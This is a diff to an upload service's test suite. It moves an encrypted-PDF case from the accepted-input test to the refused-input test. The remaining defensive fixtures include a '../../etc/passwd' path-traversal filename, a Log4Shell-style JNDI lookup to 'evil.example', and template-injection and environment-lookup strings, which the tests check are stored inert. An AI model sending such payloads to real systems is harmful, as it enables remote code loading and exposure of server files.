@@ -216,6 +216,7 @@ async def test_bad_input_is_refused_with_its_code_and_nothing_left_behind(
             ("huge.txt", b"All work and no play makes Jack a dull boy.\n" * (21 * MiB // 44)),
             ("garbage.txt", bytes(range(128, 256)) * 4),
             ("cut.pdf", truncated_pdf()),
+            ("locked.pdf", encrypted_pdf()),
         ],
         token=owner,
     )
@@ -254,6 +255,14 @@ async def test_bad_input_is_refused_with_its_code_and_nothing_left_behind(
                 "message": "The PDF is damaged or incomplete. "
                 "(it ends before its end-of-file marker)",
                 "field": "files.4",
+            },
+        ),
+        (
+            "locked.pdf",
+            {
+                "code": "PDF_ENCRYPTED",
+                "message": "The PDF is protected by a password.",
+                "field": "files.5",
             },
         ),
     ]
@@ -319,12 +328,11 @@ async def test_hostile_but_acceptable_input_is_stored_inert_and_verbatim(
             ("portugues.txt", LATIN1_TEXT),
             ("../../etc/passwd", b"root:x:0:0:root:/root:/bin/bash\n"),
             (long_name, b"# A long name\n\nIts [text](https://example.com) is short.\n"),
-            ("locked.pdf", encrypted_pdf()),
         ],
         token=owner,
     )
     files = payload["files"]
-    assert [f["error"] for f in files] == [None] * 5
+    assert [f["error"] for f in files] == [None] * 4
     names = [f["document"]["originalFilename"] for f in files]
     assert names[2] == "../../etc/passwd"  # kept for display, never a path
     assert names[3] == "a" * 252 + ".md" and len(names[3]) == 255
@@ -355,16 +363,6 @@ async def test_hostile_but_acceptable_input_is_stored_inert_and_verbatim(
     rows = await watch_uploads(ws_url, owner, people["workspace"], ids)
     final = {r["documentId"]: r for r in rows if r["done"]}
     assert set(final) == set(ids)
-    assert (final[ids[4]]["status"], final[ids[4]]["stage"], final[ids[4]]["errorCode"]) == (
-        "FAILED",
-        "EXTRACTING",
-        "PDF_ENCRYPTED",
-    )
-    detail = await client.op("DocumentDetail", {"id": ids[4]}, token=owner)
-    assert (detail["document"]["errorCode"], detail["document"]["stage"]) == (
-        "PDF_ENCRYPTED",
-        "EXTRACTING",
-    )
 
     html = await document_row(upload_database, uuid.UUID(relay.from_base64(ids[0])[1]))
     assert html["text"] is not None
@@ -373,7 +371,7 @@ async def test_hostile_but_acceptable_input_is_stored_inert_and_verbatim(
     assert "Quarterly offer" in html["text"] and "The offer ends on Friday." in html["text"]
     latin = await document_row(upload_database, uuid.UUID(relay.from_base64(ids[1])[1]))
     assert latin["text"].startswith("Olá, mundo! Você está aqui.")
-    text = await document_row(upload_database, uuid.UUID(relay.from_base64(ids[5])[1]))
+    text = await document_row(upload_database, uuid.UUID(relay.from_base64(ids[4])[1]))
     assert text["title"] == "${jndi:ldap://evil.example/a} #{7*7} {{7*7}}"
     assert text["text"].strip() == "Value: ${env:HOME} and ${sys:user.name}"
 
